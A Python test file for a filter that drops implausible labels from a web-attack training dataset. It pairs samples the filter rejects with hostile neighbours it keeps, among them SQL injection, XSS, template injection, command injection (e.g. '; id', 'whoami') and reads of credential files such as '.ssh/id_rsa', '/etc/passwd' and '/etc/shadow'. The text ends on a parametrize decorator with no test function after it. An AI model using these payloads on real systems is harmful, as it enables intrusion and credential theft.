"""Labels that are not believed: each rule by an example that it drops and a neighbour that it keeps."""

from __future__ import annotations

import time
from typing import Any

import pytest

from vedette.training.believe import disbelief, doubt_harmless

CSIC = {"source": "CSIC 2010 anomalous", "class": "sqli"}
VALUE = {"kind": "value"}


PATTERN = {"source": "faizann24/Fwaf:badqueries.txt"}
TOOL = {"source": "PyPI brs-kb", **VALUE}
LIST = {"source": "swisskyrepo/PayloadsAllTheThings", **VALUE}
CUT = {"source": "fuzzdb-project/fuzzdb:attack/xss/JHADDIX_XSS_WITH_CONTEXT.doc.txt", "class": "xss", **VALUE}
TEXTBOOK = {"source": "kaggle copy via x", "class": "sqli", **VALUE}
SCANNER = {"source": "runZeroInc/nuclei-templates: x", "class": "ssti"}


def request(url: str, label: str = "sqli", **record: Any) -> tuple[dict[str, Any], list[tuple[str, str]]]:
    """A whole request of which no window holds anything but the path, as for fields that look plain."""
    record = {"source": "somebody/templates", "kind": "request", "class": label, "url": url, **record}
    return record, [("path path", url.partition("?")[0].lower())]


def case(text: str, **record: Any) -> tuple[dict[str, Any], list[tuple[str, str]]]:
    record = {"source": "somebody/x", **record}
    if record.get("kind") == "value":
        record["value"] = text
    return record, [("query text", text.lower())]


def page_upload(name: str, text: str) -> tuple[dict[str, Any], list[tuple[str, str]]]:
    body = f'--q\r\nContent-Disposition: form-data; name="f"; filename="{name}"\r\n\r\n{text}\r\n--q--\r\n'
    record, windows = request("/pages", "upload", method="POST", body=body)
    return record, [*windows, ("multipart file", name), ("multipart file", text)]


@pytest.mark.parametrize(
    ("dropped", "kept", "why"),
    [
        (case("o'connor", **CSIC), case("o' or 1=1", **CSIC), "no injection in it"),
        (
            case("https://example.com/a", **VALUE, **{"class": "redirect"}),
            case("https:/\\example.com/a", **VALUE, **{"class": "redirect"}),
            "plain outside address",
        ),
        (
            case("https://example.com/a", **VALUE, **{"class": "ssrf"}),
            case("http://metadata.internal/a", **VALUE, **{"class": "ssrf"}),
            "plain outside address",
        ),
        (
            case("//cats.example/a", **VALUE, **{"class": "redirect"}),
            case("https:cats.example/a", **VALUE, **{"class": "redirect"}),
            "plain outside address",
        ),
        (
            case("http://cats.example/a", **VALUE, **{"class": "ssrf"}),
            case("http://cats.lvh.me/a", **VALUE, **{"class": "ssrf"}),
            "plain outside address",
        ),
        (
            case("cats.example@dogs.example", **VALUE, **{"class": "redirect"}),
            case("//cats.example@dogs.example", **VALUE, **{"class": "redirect"}),
            "plain outside address",
        ),
        (
            case("/.cats.example", **VALUE, **{"class": "redirect"}),
            case("/\n.cats.example", **VALUE, **{"class": "redirect"}),
            "plain outside address",
        ),
        (
            case("https://cats.example/https://dogs.example/", **VALUE, **{"class": "redirect"}),
            case("https://cats.example/\\dogs.example/", **VALUE, **{"class": "redirect"}),
            "plain outside address",
        ),
        (
            case("/?next=https://cats.example&url=https://cats.example", **VALUE, **{"class": "redirect"}),
            case("/?next=https://cats.example&url=//cats.example", **VALUE, **{"class": "redirect"}),
            "plain outside address",
        ),
        (
            ({"source": "x", "class": "redirect", "value": "https://%63ats%2eexample", **VALUE}, []),
            ({"source": "x", "class": "redirect", "value": "https://cats%3f.dogs.example", **VALUE}, []),
            "plain outside address",
        ),
        (
            case("<BINARY DATA>", **{"class": "upload"}),
            case("MZ<BINARY DATA>", **{"class": "upload"}),
            "placeholder instead of a payload",
        ),
        (
            request("/a", "xss", body="<html><!-- CSRF PoC of mine --><form action='/a'></form></html>"),
            request("/a", "xss", body="<html><!-- mine --><form action='/a'>id(a)</form></html>"),
            "page that attacks from elsewhere",
        ),
        (
            page_upload("note.html", "<html><!-- mine --><b>Hello</b></html>"),
            page_upload("note.html", "<html><!-- mine --><b onclick=a>Hello</b></html>"),
            "harmless HTML",
        ),
        (
            page_upload("note.html", "<b>Hello</b>"),
            page_upload("note.php", "<b>Hello</b>"),
            "harmless HTML",
        ),
        (
            case("/web.config.bak", **{"class": "traversal"}),
            case("/../web.config", **{"class": "traversal"}),
            "probe for a file",
        ),
        (
            case("{{self.x(", **{**VALUE, "source": "vladko312/SSTImap", "class": "ssti"}),
            case("{{self.x()}}", **{**VALUE, "source": "vladko312/SSTImap", "class": "ssti"}),
            "fragment of a payload",
        ),
        (
            case("<!DOCTYPE foo [", **VALUE, **{"class": "xxe"}),
            case('<!DOCTYPE foo [<!ENTITY x SYSTEM "file:///etc/hosts">]>', **VALUE, **{"class": "xxe"}),
            "fragment of a payload",
        ),
        (
            case("{cmd}; id", **VALUE, **{"class": "cmdi"}),
            case("{ id; }", **VALUE, **{"class": "cmdi"}),
            "placeholder instead of a payload",
        ),
        (
            case("query { viewer { login name } }", **VALUE, **{"class": "graphql"}),
            case("{a{b{c{d{e{f{g{id}}}}}}}}", **VALUE, **{"class": "graphql"}),
            "plain GraphQL",
        ),
        (
            case("{__typename}", **VALUE, **{"class": "graphql"}),
            case("{__schema{types{name}}}", **VALUE, **{"class": "graphql"}),
            "plain GraphQL",
        ),
        (
            case("{...A}fragment A on Query{id ...B}fragment B on Query{name}", **VALUE, **{"class": "graphql"}),
            case("{...A}fragment A on Query{id ...B}fragment B on Query{...A}", **VALUE, **{"class": "graphql"}),
            "plain GraphQL",
        ),
        (
            case("query @live {rooms{id}}", **VALUE, **{"class": "graphql"}),
            case("query @x@x@x@x@x@x@x@x@x{rooms{id}}", **VALUE, **{"class": "graphql"}),
            "plain GraphQL",
        ),
        (
            case('mutation{login(user:"a",password:"b"){id}}', **VALUE, **{"class": "graphql"}),
            case("{users{id password}}", **VALUE, **{"class": "graphql"}),
            "plain GraphQL",
        ),
        (
            case("{rooms{id}}", **VALUE, **{"class": "graphql"}),
            case("{rooms{id}}", **VALUE, **{"class": "graphql", "source": "generated/"}),
            "plain GraphQL",
        ),
        (
            case("@type", **VALUE, **{"class": "deser", "source": "generated/"}),
            case("@type", **VALUE, **{"class": "deser"}),
            "no injection in it",
        ),
        (
            case("# CVE-2020-12345 \u2014 a server may run code", **VALUE, **{"class": "codei"}),
            case("; id # CVE-2020-12345", **VALUE, **{"class": "cmdi"}),
            "prose about an attack",
        ),
    ],
)
def test_rules(dropped: tuple[Any, Any], kept: tuple[Any, Any], why: str) -> None:
    assert disbelief(*dropped) == why
    assert disbelief(*kept) is None


@pytest.mark.parametrize(
    ("dropped", "kept", "why"),
    [
        # Nothing injected, in a request of an injection's class.
        (request("/shop/login?step=2"), request("/shop/login?step=2%27%20or%201=1"), "no injection in it"),
        (
            request("/a?x=1", headers={"User-Agent": "Mozilla/5.0 (X11; Linux)"}),
            request("/a?x=1--"),
            "no injection in it",
        ),
        (
            request("/login", body="name=ann&word=blue"),
            request("/login", body='{"run": "whoami"}'),
            "no injection in it",
        ),
        (request("/a"), request("/a", headers={"User-Agent": "<script>alert(1)</script>"}), "no injection in it"),
        (request("/a", "xss"), request("/a", "deser"), "no injection in it"),
        (
            request("/app;jsessionid=0123456789abcdef0123456789ABCDEF.old", "cmdi"),
            request("/app;id;jsessionid=0123456789abcdef0123456789ABCDEF", "cmdi"),
            "no injection in it",
        ),
        (request("/form?token=0123456789abcdef0123456789abcdef"), request("/f?a=${7}"), "no injection in it"),
        (request("/cgi/.htpasswd", "cmdi"), request("/cgi?f=passwd", "cmdi"), "no injection in it"),
        (request("/print.php?item='", **PATTERN), request("/print.php?item=print('", **PATTERN), "no injection in it"),
        (request("/page.cfm?item='", **PATTERN), request("/page.cfm?item='"), "no injection in it"),
        (request("/page.cfm?item=12'", **PATTERN), request("/page.cfm?item=12');", **PATTERN), "no injection in it"),
        (
            case("/dogs and cats - which one's for you/", **VALUE, **PATTERN, **{"class": "sqli"}),
            case("/dogs' and 1=1/", **VALUE, **PATTERN, **{"class": "sqli"}),
            "no injection in it",
        ),
        # Placeholders that no window holds.
        (
            request("/inc.php?base=XXpathXX?&cmd=id", "cmdi"),
            request("/inc.php?base=XXpathXX&file=../../x", "cmdi"),
            "placeholder instead of a payload",
        ),
        (
            request("/inc.php?base=@rfiurl", "cmdi"),
            request("/inc.php?base=http://10.1.2.3/x.txt", "cmdi"),
            "placeholder instead of a payload",
        ),
        # Prose.
        (
            case("Old browser trick (Opera only)", **TOOL, **{"class": "xss"}),
            case("Old browser trick <b onclick=alert(1)>", **TOOL, **{"class": "xss"}),
            "prose about an attack",
        ),
        (
            case("Vue link with javascript: scheme", **TOOL, **{"class": "xss"}),
            case("Vue link with javascript:alert(1)", **TOOL, **{"class": "xss"}),
            "prose about an attack",
        ),
        (
            case("Template probe for ${{36}}", **TOOL, **{"class": "ssti"}),
            case("${{36*2}}", **TOOL, **{"class": "ssti"}),
            "prose about an attack",
        ),
        (
            case("This one works only if the filter can be asked for a second page.", **LIST, **{"class": "xss"}),
            case("This one works only if the filter can be asked <b onclick=a()>", **LIST, **{"class": "xss"}),
            "prose about an attack",
        ),
        (
            case("# put the name of your own table in for best results", **LIST, **{"class": "sqli"}),
            case("# and 1=1", **LIST, **{"class": "sqli"}),
            "prose about an attack",
        ),
        (
            case("| @@hostname      | name of it |", **LIST, **{"class": "sqli"}),
            case("| ' or sleep(3) or ' | waits |", **LIST, **{"class": "sqli"}),
            "prose about an attack",
        ),
        # Fragments and plain words.
        (
            case("&#X0003c;", **VALUE, **{"class": "xss"}),
            case("&#60;b onload=a()&#62;", **VALUE),
            "fragment of a payload",
        ),
        (case("onblur=", **VALUE, **{"class": "xss"}), case("onblur=a()", **VALUE), "fragment of a payload"),
        (
            case("7; |", **VALUE, **{"class": "cmdi"}),
            case("7; | id", **VALUE, **{"class": "cmdi"}),
            "fragment of a payload",
        ),
        (case("+------+", **VALUE, **{"class": "sqli"}), case("1--+", **VALUE), "fragment of a payload"),
        (
            case("function openAll(){", **LIST, **{"class": "xss"}),
            case("function(){alert(1)}()", **LIST, **{"class": "xss"}),
            "line of a program",
        ),
        (
            case("ann@example.org", **VALUE, **{"class": "sqli"}),
            case("ann'--", **VALUE, **{"class": "sqli"}),
            "plain word",
        ),
        (
            case("app.config", **VALUE, **{"class": "traversal"}),
            case("/etc/app.config", **VALUE, **{"class": "traversal"}),
            "probe for a file",
        ),
        # Templates and markup that applications and people write.
        (
            case("<li>{{ item.title|e }}</li>", **VALUE, **{"class": "ssti"}),
            case("{{ item.__class__ }}", **VALUE, **{"class": "ssti"}),
            "plain template",
        ),
        (
            case("{% endblock %}", **VALUE, **{"class": "ssti"}),
            case("{{config}}", **VALUE, **{"class": "ssti"}),
            "plain template",
        ),
        (
            case('<a href="https://example.org/cat.jpg" download>my cat</a>', **VALUE, **{"class": "xss"}),
            case('<a href="data:text/html,x">my cat</a>', **VALUE, **{"class": "xss"}),
            "harmless HTML",
        ),
        (
            case("&lt;p class=x&gt;Hello&lt;/p&gt;", **VALUE, **{"class": "xss"}),
            case("&lt;p onclick=a&gt;Hello&lt;/p&gt;", **VALUE, **{"class": "xss"}),
            "harmless HTML",
        ),
        (
            case("<a href={address}>Go</a>", **VALUE, **{"class": "xss"}),
            case("<div x-init=a>Go</div>", **VALUE, **{"class": "xss"}),
            "harmless HTML",
        ),
        (
            case(
                '<svg xmlns="http://www.w3.org/2000/svg" width="9"><input type="text" name="q">',
                **VALUE,
                **{"class": "xss"},
            ),
            case('<svg xmlns="http://www.w3.org/2000/svg" onload="a">', **VALUE, **{"class": "xss"}),
            "harmless HTML",
        ),
        (
            case('<img src="https://i.imgur.com/abc.gif">', **VALUE, **{"class": "xss"}),
            case('<iframe src="https://attacker.example/abc.gif">', **VALUE, **{"class": "xss"}),
            "harmless HTML",
        ),
        (
            case('<img src="https://9.media.tumblr.com/a/b.gif"></img>', **VALUE, **{"class": "xss"}),
            case('<img src="https://9.media.tumblr.com/a/b.gif" onload=a>', **VALUE, **{"class": "xss"}),
            "harmless HTML",
        ),
        (
            case('<img src="http://pictures.example/look.php?name=cat">', **VALUE, **{"class": "xss"}),
            case("<img src='http://pictures.example/look.php?name=", **VALUE, **{"class": "xss"}),
            "harmless HTML",
        ),
        (
            case("<iframe src='/own/page' sandbox='allow-scripts'></iframe>", **VALUE, **{"class": "xss"}),
            case("<iframe src='//own/page' sandbox='allow-scripts'></iframe>", **VALUE, **{"class": "xss"}),
            "harmless HTML",
        ),
        (
            case('<svg:mask id="a" maskUnits="objectBoundingBox">', **VALUE, **{"class": "xss"}),
            case('<svg:mask id="a" maskUnits="objectBoundingBox" onload=a>', **VALUE, **{"class": "xss"}),
            "harmless HTML",
        ),
        # References that a page's width broke, the head of a line.
        (
            case("<img src=&#97;&<WBR>#98;>", **VALUE, **{"class": "xss"}),
            case("<img src=a><WBR>&#98; onerror=a()>", **VALUE, **{"class": "xss"}),
            "fragment of a payload",
        ),
        (
            case("Exploit String: p={q:''+<b>al</b>+</", **CUT),
            case("Exploit String: p={q:''+<b>al</b>}", **CUT),
            "fragment of a payload",
        ),
        # Signs with no command, brackets with nothing behind them, halves of lines and of pages.
        (
            case("foo&|", **VALUE, **{"class": "cmdi"}),
            case("foo&id|", **VALUE, **{"class": "cmdi"}),
            "fragment of a payload",
        ),
        (case(">>>", **VALUE, **{"class": "cmdi"}), case(">x", **VALUE, **{"class": "cmdi"}), "fragment of a payload"),
        (
            case("7 ) ) ", **VALUE, **{"class": "sqli"}),
            case("7 )) or 7", **VALUE, **{"class": "sqli"}),
            "fragment of a payload",
        ),
        (
            case("%5Cr%5cn", **VALUE, **{"class": "redirect"}),
            case("%5Cr%5cnSet-Cookie: a=b", **VALUE, **{"class": "redirect"}),
            "fragment of a payload",
        ),
        (
            case("</table>//[\"'`-->]]>]</div>", **VALUE, **{"class": "codei"}),
            case("<b onclick=a()>//[\"'`-->]]>]</div>", **VALUE, **{"class": "codei"}),
            "fragment of a payload",
        ),
        (case("s2=0?'':'b';s3=a+s2", **CUT), case("s2=0?'':'b';eval(s3)", **CUT), "fragment of a payload"),
        (case("Exploit String: <!--", **CUT), case("Exploit String: s2=a+b;c(s2)", **CUT), "fragment of a payload"),
        # Lines of sessions and programs, and what looks for payloads.
        (
            case("mysql> SELECT now();", **LIST, **{"class": "sqli"}),
            case("mysql> SELECT now() UNION SELECT pass", **LIST, **{"class": "sqli"}),
            "line of a program",
        ),
        (
            case(">>> payloads()", **VALUE, **{"class": "xss"}),
            case(">>> print('{{9*9}}')", **VALUE, **{"class": "ssti"}),
            "line of a program",
        ),
        (
            case("`city` VARCHAR(40) NOT NULL", **LIST, **{"class": "sqli"}),
            case("`city` UNION SELECT 1", **LIST, **{"class": "sqli"}),
            "line of a program",
        ),
        (
            case("payload = '?name=' + name", **LIST, **{"class": "nosqli"}),
            case("name[$ne]=payload", **LIST, **{"class": "nosqli"}),
            "line of a program",
        ),
        (
            case("<b[^>]*>[^<]*MARKER", **TOOL, **{"class": "xss"}),
            case("<b onclick=MARKER()>", **TOOL, **{"class": "xss"}),
            "line of a program",
        ),
        # What a sign is called.
        (
            case("^\t\t(circumflex) bitwise", **LIST, **{"class": "sqli"}),
            case("^\t(select 1)", **LIST, **{"class": "sqli"}),
            "prose about an attack",
        ),
        (
            case("# once more with 'like'", **LIST, **{"class": "sqli"}),
            case("# once more' or 1=1", **LIST, **{"class": "sqli"}),
            "prose about an attack",
        ),
        # Placeholders, and a scanner's calls in requests.
        (
            case("/tmp/sess_<sessid>", **VALUE, **{"class": "traversal"}),
            case("/tmp/sess_0f3a", **VALUE, **{"class": "traversal"}),
            "placeholder instead of a payload",
        ),
        (
            case("{{base64('{{made_object}}')}}", **SCANNER),
            case("{{base64('{{made_object}}')}}|id", **SCANNER),
            "placeholder instead of a payload",
        ),
        (case('x1.example.net", "hex")}}', **SCANNER), case("{{9*9}}", **SCANNER), "placeholder instead of a payload"),
        (
            case("{{n}}%(n1)s*%(n2)s", **VALUE, **{"class": "ssti"}),
            case("{{9*9}}", **VALUE, **{"class": "ssti"}),
            "placeholder instead of a payload",
        ),
        (
            request("/etc/tools/overview.html", "traversal"),
            request("/etc/hosts", "traversal"),
            "probe for a file",
        ),
        (
            case("mutation { rename(id: 3, name: true) { id } }", **VALUE, **{"class": "graphql"}),
            case("mutation { rename(id: 3, isAdmin: true) { id } }", **VALUE, **{"class": "graphql"}),
            "plain GraphQL",
        ),
        # A page that has the name of a command.
        (request("/api/whoami", "cmdi"), request("/api/x;whoami", "cmdi"), "no injection in it"),
        # An outside address in a request.
        (
            (
                request("/go?to=https://other.example.com/a", "redirect")[0],
                [("query url", "https://other.example.com/a")],
            ),
            (
                request("/go?to=https://a@other.example.com", "redirect")[0],
                [("query url", "https://a@other.example.com")],
            ),
            "plain outside address",
        ),
        (
            (request("/go?to=http://other.example.com", "ssrf")[0], [("query url", "http://other.example.com")]),
            (request("/go?to=http://127.0.0.1:80/", "ssrf")[0], [("query url", "http://127.0.0.1:80/")]),
            "plain outside address",
        ),
        (
            (request("/go?x=a.example.com", "redirect")[0], [("query url", "a.example.com")]),
            (request("//a.example.com", "redirect")[0], [("path path", "//a.example.com")]),
            "plain outside address",
        ),
        # Lines of pages.
        (
            case('<?xml version="1.0"?>', **VALUE, **{"class": "xss"}),
            case('<?xml version="1.0"?><b onclick="a()"/>', **VALUE, **{"class": "xss"}),
            "harmless HTML",
        ),
        (
            case('test 7_2 <svg:rect x="1"/><!-- Opera -->', **VALUE, **{"class": "xss"}),
            case('test 7_2 <svg:script x="1"/>', **VALUE, **{"class": "xss"}),
            "harmless HTML",
        ),
        (
            case('<span datasrc="#b" datafld="c" dataformatas="html"></span>', **VALUE, **{"class": "xss"}),
            case('<xml src="//a.example" id=b></xml><span datasrc="#b"></span>', **VALUE, **{"class": "xss"}),
            "harmless HTML",
        ),
        (
            case('<a id="b"><rect height="9" /></a>', **VALUE, **{"class": "xss"}),
            case('<a id="b" href="cid:1"><rect height="9" /></a>', **VALUE, **{"class": "xss"}),
            "harmless HTML",
        ),
        # Whole statements over any words, and what is left of others.
        (
            case("SELECT lamp, road FROM hill WHERE sea = 'dog' UNION SELECT a, b FROM c", **TEXTBOOK),
            case("SELECT lamp FROM hill WHERE sea = 'dog' UNION SELECT passwd FROM c", **TEXTBOOK),
            "statement of a textbook",
        ),
        (
            case("select * from hill where sea = 'dog' and ( a = 'b' or c = 'd' ) ;", **TEXTBOOK),
            case("select * from hill where sea = 'dog' or 'd' = 'd'", **TEXTBOOK),
            "statement of a textbook",
        ),
        (
            case("insert into hill ( lamp, road ) values ( 'a', 'b' )", **TEXTBOOK),
            case("insert into hill ( lamp ) values ( 'a' ) -- ", **TEXTBOOK),
            "statement of a textbook",
        ),
        (
            case("= --", **VALUE, **{"class": "sqli"}),
            case("'= --", **VALUE, **{"class": "sqli"}),
            "fragment of a payload",
        ),
        (
            case("-->{}", **VALUE, **{"class": "xss"}),
            case("-->{a()}", **VALUE, **{"class": "xss"}),
            "fragment of a payload",
        ),
        (
            case('"import" href="b.svg" />', **VALUE, **{"class": "xss"}),
            case('"import" href="//b.example/b.svg" onload="a()" />', **VALUE, **{"class": "xss"}),
            "fragment of a payload",
        ),
        (
            case("  <!DOCTYPE b [ ", **VALUE, **{"class": "xxe"}),
            case('  <!DOCTYPE b [ <!ENTITY c "d">', **VALUE, **{"class": "xxe"}),
            "fragment of a payload",
        ),
        (
            case("<svg onload={func}{open}9{close}>", **VALUE, **{"class": "xss"}),
            case("<svg onload={a(9)}>", **VALUE, **{"class": "xss"}),
            "placeholder instead of a payload",
        ),
        (
            case("/id;12;page;7", **VALUE, **{"class": "cmdi"}),
            case("/id;12;cat /a", **VALUE, **{"class": "cmdi"}),
            "no injection in it",
        ),
        (
            request("/id;12;page;7/", "cmdi", **PATTERN),
            request("/id;12;cat /a", "cmdi", **PATTERN),
            "no injection in it",
        ),
        # A sign as from a typing error, a page that is called like a key word, the line end behind a body.
        (request("/a.php?q=');", **PATTERN), request("/a.php?q=');--", **PATTERN), "no injection in it"),
        (
            request("/a.php?mail='x@y.example", **PATTERN),
            request("/a.php?mail='x@y.example'='", **PATTERN),
            "no injection in it",
        ),
        (
            request("/a.php?id='plugin_7.nasl", **PATTERN),
            request("/a.php?id='or x.nasl", **PATTERN),
            "no injection in it",
        ),
        (request("/tools/select.exe"), request("/tools/select.exe?x=select"), "no injection in it"),
        (
            request("/tools/select.exe"),
            request("/tools/select.exe", headers={"User-Agent": "x'||'y"}),
            "no injection in it",
        ),
        (request("/:8080/api/whoami", "cmdi"), request("/:8080/;whoami", "cmdi"), "no injection in it"),
        (request("/a", body="step=3\n"), request("/a", "cmdi", body="step=3\nid\n"), "no injection in it"),
        (
            (CSIC, [("query text base64", "v<ej"), ("query text", "djxlag")]),
            (CSIC, [("query text", "v<ej")]),
            "no injection in it",
        ),
        # Clauses of a textbook.
        (
            case("FROM  ( SELECT DISTINCT lamp FROM hill )", **TEXTBOOK),
            case("FROM  ( SELECT DISTINCT passwd FROM hill )", **TEXTBOOK),
            "statement of a textbook",
        ),
        (
            case("WHERE lamp > ( SELECT AVG ( lamp ) FROM hill ) ;", **TEXTBOOK),
            case("WHERE 3 > 2", **TEXTBOOK),
            "statement of a textbook",
        ),
        (
            case("SELECT lamp+ ', ' + road AS sea FROM hill", **TEXTBOOK),
            case("' + ( SELECT lamp FROM hill ) + '", **TEXTBOOK),
            "statement of a textbook",
        ),
        # Commands in a comment, options without their command.
        (
            case("a.png; #uptime -p", **VALUE, **{"class": "cmdi"}),
            case("a.png; uptime -p #", **VALUE, **{"class": "cmdi"}),
            "fragment of a payload",
        ),
        (
            case("a.png && #x", **VALUE, **{"class": "cmdi"}),
            case("a.png && #x\nuptime", **VALUE, **{"class": "cmdi"}),
            "fragment of a payload",
        ),
        (
            case("|--colour red \\", **VALUE, **{"class": "cmdi"}),
            case("|paint --colour red \\", **VALUE, **{"class": "cmdi"}),
            "fragment of a payload",
        ),
        # Folders of an application, what a fuzzer hangs behind a file, one step up that names nothing.
        (request("/app/etc/shop.xml", "traversal"), request("/etc/shop.xml", "traversal"), "probe for a file"),
        (
            case("/home/cart/total/tag/1'", **{"class": "traversal"}),
            case("/home/cart/.ssh/id_rsa", **{"class": "traversal"}),
            "probe for a file",
        ),
        (
            case("/usr/share/elasticsearch/repo/a", **{"class": "traversal"}),
            case("/usr/share/elasticsearch/config/a.yml", **{"class": "traversal"}),
            "probe for a file",
        ),
        (
            case("$(<command_to_execute>)", **{"class": "cmdi"}),
            case("$(</etc/passwd)", **{"class": "cmdi"}),
            "placeholder instead of a payload",
        ),
        (
            case('<image href="data:image/png;base64,', **VALUE, **{"class": "xss"}),
            case('<embed src="data:text/html;base64,PHN2Zz4=">', **VALUE, **{"class": "xss"}),
            "fragment of a payload",
        ),
        (
            case("{{say('", **{**VALUE, "source": "vladko312/SSTImap", "class": "ssti"}),
            case("{{say('')}}${'", **{**VALUE, "source": "vladko312/SSTImap", "class": "ssti"}),
            "fragment of a payload",
        ),
        (
            case("{{= row12 }}", **VALUE, **{"class": "ssti"}),
            case("{{= 12*12 }}", **VALUE, **{"class": "ssti"}),
            "plain template",
        ),
        (
            case("%7B%7Broom%7D%7D", **VALUE, **{"class": "ssti"}),
            case("%7B%7Bconfig%7D%7D", **VALUE, **{"class": "ssti"}),
            "plain template",
        ),
        (
            case("`${title}`", **VALUE, **{"class": "codei"}),
            case("`${title()}`", **VALUE, **{"class": "codei"}),
            "plain template",
        ),
        (
            case("changed: {{page}}", **{"class": "ssti"}),
            case("{{page.config}}", **{"class": "ssti"}),
            "no injection in it",
        ),
        (
            request("/q?text=x", "cmdi", body="ids=1&id%5B%5D=2"),
            request("/q?text=x", "cmdi", body="ids=1&id%3Bls"),
            "no injection in it",
        ),
        (
            request("/forgot?to=jo@example.org", "cmdi"),
            request("/forgot?to=jo@example.org|id", "cmdi"),
            "no injection in it",
        ),
        (case("|search door|head 3", **{"class": "cmdi"}), case("|head 3", **{"class": "cmdi"}), "no injection in it"),
        (request("/realms/root/login", "traversal"), request("/a/./etc/shadow", "traversal"), "probe for a file"),
        (
            request("/js/.htpasswd.old/9-8", "traversal"),
            request("/js/.htpasswd.old/../passwd", "traversal"),
            "probe for a file",
        ),
        (
            (request("/js/.htaccess/x", "traversal")[0], [("path path", "/js/.htaccess/\\'\\\"")]),
            (request("/js/x", "traversal")[0], [("path path", "/js/.htaccess/\\windows\\x")]),
            "probe for a file",
        ),
        (
            (request("/a?dir=../", "traversal")[0], [("query file", "../")]),
            (request("/a?dir=../../", "traversal")[0], [("query file", "../../")]),
            "probe for a file",
        ),
        (
            (request("/a?dir=../", "traversal")[0], [("query file", "../")]),
            (request("/a?dir=../&name=/WEB-INF/web.xml", "traversal")[0], [("query file", "../")]),
            "probe for a file",
        ),
        (
            (request("/a?dir=../", "traversal")[0], [("query file", "../")]),
            (request("/a?dir=%2e%2e/", "traversal")[0], [("query file", "../")]),
            "probe for a file",
        ),
        # Beginnings, ends and long runs of one letter.
        (case("vbscript:", **VALUE, **{"class": "xss"}), case("vbscript:a(1)", **VALUE), "fragment of a payload"),
        (case("confirm(", **VALUE, **{"class": "xss"}), case("confirm(1)", **VALUE), "fragment of a payload"),
        (
            case(" -- ", **VALUE, **{"class": "sqli"}),
            case("' -- ", **VALUE, **{"class": "sqli"}),
            "fragment of a payload",
        ),
        (
            case("B" * 60, **VALUE, **{"class": "traversal"}),
            case("B" * 60 + "/../", **VALUE, **{"class": "traversal"}),
            "plain word",
        ),
        (
            case("Letters coded for javascript:alert", **TOOL, **{"class": "xss"}),
            case("Letters coded for javascript:alert(2)", **TOOL, **{"class": "xss"}),
            "prose about an attack",
        ),
        (
            case('<p style="color: red; width:9px">x</p>', **VALUE, **{"class": "xss"}),
            case('<p style="width: expression(a)">x</p>', **VALUE, **{"class": "xss"}),
            "harmless HTML",
        ),
        (
            (request("/profile", "ssti", **SCANNER)[0], [("header secret", "bearer {{randomstring 9}}")]),
            (request("/profile", "ssti", **SCANNER)[0], [("header secret", "bearer {{9*9}}")]),
            "placeholder instead of a payload",
        ),
        (
            request("/{{BaseURL}/setup/index.php", "ssti"),
            request("/{{9*9}}/setup/index.php", "ssti"),
            "placeholder instead of a payload",
        ),
        (
            (case("'{cmd}'", **VALUE, **{"class": "cmdi"})[0], [("header referer", "'{cmd}'")]),
            (case("'{id}'", **VALUE, **{"class": "cmdi"})[0], [("header referer", "'{id}'")]),
            "placeholder instead of a payload",
        ),
        # Line by line of a gadget, a table as anybody makes one, a page's own state.
        (
            case("  - !ruby/object:Some::Loader", **LIST, **{"class": "deser"}),
            case("  - !ruby/object:Some::Loader {a: b}", **LIST, **{"class": "deser"}),
            "fragment of a payload",
        ),
        (
            case("create table hill.sea (lamp text);", **LIST, **{"class": "sqli"}),
            case("1; create table hill.sea (lamp text);", **LIST, **{"class": "sqli"}),
            "statement of a textbook",
        ),
        (
            case("SELECT lamp FROM hill; SELECT AVG ( lamp ) FROM sea", **TEXTBOOK),
            case("SELECT lamp FROM hill; DROP TABLE sea", **TEXTBOOK),
            "statement of a textbook",
        ),
        (
            case("__VIEWSTATE=dDwxMjM0NTs7Pg==", **VALUE, **{"class": "deser"}),
            case("__VIEWSTATE=AAEAAAD/////AQAAAA==", **VALUE, **{"class": "deser"}),
            "no injection in it",
        ),
        # A flood of which the windows show the ends, and as many operations, each read for itself.
        (
            (case('[{"query":"{a}"}]' * 9, **VALUE, **{"class": "graphql"})[0], [("json text", "{a}")]),
            (
                case("{" + "...lamp\n" * 30 + "}", **VALUE, **{"class": "graphql"})[0],
                [("query text", "{...lamp\n...lamp")],
            ),
            "plain GraphQL",
        ),
        # The site that asks.
        (
            case("Referer: https://shop.example.com/", **VALUE, **{"class": "sqli"}),
            case("Referer: https://shop.example.com/' or '1", **VALUE, **{"class": "sqli"}),
            "plain outside address",
        ),
        (
            request("/page?origin=https://shop.example.com/"),
            request("/page?origin=https://shop.example.com/&a=1%27%20or%202"),
            "plain outside address",
        ),
        (request("/<!--"), request("/<!--'or'"), "fragment of a payload"),
        # A form in parts, whose boundary is no sign, and a name that holds the word of a clause.
        (
            request("/a", headers={"Content-Type": "multipart/form-data; boundary=----q"}, body="----q--"),
            request("/a", headers={"Content-Type": "multipart/form-data; boundary=----q'or"}, body="----q--"),
            "no injection in it",
        ),
        (request("/a?order_by=lamp"), request("/a?sort=1+order+by+9"), "no injection in it"),
        (
            (request("/a", **{**SCANNER, "class": "sqli"})[0], [("form other", 'x {{base64("{{a}}")}}')]),
            (
                request("/a", **{**SCANNER, "class": "sqli"})[0],
                [("form other", 'x {{base64("{{a}}")}} union select 1')],
            ),
            "placeholder instead of a payload",
        ),
    ],
)
def test_rules_about_what_is_no_attack(dropped: tuple[Any, Any], kept: tuple[Any, Any], why: str) -> None:
    assert disbelief(*dropped) == why
    assert disbelief(*kept) is None


@pytest.mark.parametrize(
    ("value", "label"),
    [
        ("'); --", "sqli"),
        ("'|'", "sqli"),
        ("x-- ", "sqli"),
        ("\tjavascript:", "xss"),
        ('"><p>', "xss"),
        ("<iframe src=//attacker.example>", "xss"),
        ('<a href="//attacker.example">x</a>', "xss"),
        ("<a href=http://0x7f.1/>x</a>", "xss"),
        ("<a id=defaultView name=alert>", "xss"),
        ("<p><b", "xss"),
        ("<a href=j&Tab;avascript&colon;a()>Go</a>", "xss"),
        ("<input autofocus onfocus=a()>", "xss"),
        ("<style>b{background:url(//attacker.example)}</style>", "xss"),
        ("{{this}}", "ssti"),
        ("{{9}}", "ssti"),
        ('{% extends "/etc/hosts" %}', "ssti"),
        ("{{a}}<script>", "ssti"),
        ("Words before it as if it were said to the reader. {{9*9}}", "ssti"),
        ("/opt/app/app.log", "traversal"),
        ("0x2e0x2e0x2fboot.ini", "traversal"),
        ("whoami", "cmdi"),
        ("a');open('", "xss"),
        ("CREATE TABLE cmd_lines(cmd_output text);", "sqli"),
        (".outside.example", "redirect"),
        ("@outside.example", "redirect"),
        ("`${name}`", "xss"),
    ],
)
